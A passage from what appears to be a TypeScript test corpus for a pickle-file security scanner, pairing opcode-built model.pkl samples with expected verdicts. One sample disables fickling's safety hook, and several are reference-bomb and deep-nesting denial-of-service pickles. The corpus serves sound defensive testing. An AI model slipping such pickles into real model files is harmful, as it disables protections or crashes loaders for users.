    fileName: 'model.pkl',
    description:
      "fickling.hook.deactivate_safe_ml_environment() then an innocuous dict: switches off the runtime pickle hook for later loads in the same process (fickling's ScannerDeactivation analysis).",
    expect: 'unsafe',
    mustMention: 'fickling',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'fickling.hook', 'deactivate_safe_ml_environment').emptyTuple().reduce().pop();
        a.emptyDict().shortBinunicode('weights').emptyList().setitem().stop();
      }),
  }),
  fileSample({
    id: 'T22-self-ref-list',
    technique: 'T22',
    fileName: 'model.pkl',
    description:
      'Exactly pickle.dumps(l, 2) for l = []; l.append(l): a cycle through the memo. No import, no call: a scanner must terminate and call it safe (fickling once recursed forever, issue #196).',
    expect: 'safe',
    build: () => asm((a) => a.proto(2).emptyList().binput(0).binget(0).append().stop()),
  }),
  fileSample({
    id: 'T22-billion-laughs-get',
    technique: 'T22',
    fileName: 'model.pkl',
    description:
      '12 levels of lists, each holding ten BINGETs of the level below: 10^12 leaf references but only 12 small lists in memory — CPython loads it instantly because lists hold references. No import, no call. Review: any verdict is acceptable (a limit finding is welcome) as long as the scan finishes and does not expand the graph.',
    expect: 'review',
    build: () => billionLaughsGet(12),
  }),
  fileSample({
    id: 'T22-billion-laughs-dup',
    technique: 'T22',
    fileName: 'model.pkl',
    description: 'DUP TUPLE2 repeated 48 times: 2^48 leaves by reference in 48 tuples. Review, as above.',
    expect: 'review',
    build: () => billionLaughsDup(48),
  }),
  fileSample({
    id: 'T22-deep-nesting',
    technique: 'T22',
    fileName: 'model.pkl',
    description:
      '150,000 EMPTY_LISTs then 149,999 APPENDs: a list nested 150,000 deep (CPython unpickles it without recursion). Stresses recursive evidence rendering and the stack-depth limit; review: must finish without a crash.',
    expect: 'review',
    build: () => deepNesting(150_000),
  }),
];

export const VM_SAMPLES: readonly CorpusSample[] = [
  ...T01,
  ...T02_T03,
  ...T04_T08,
  ...T09_T11,
  ...T12_T16,
  ...T17_T22,
];
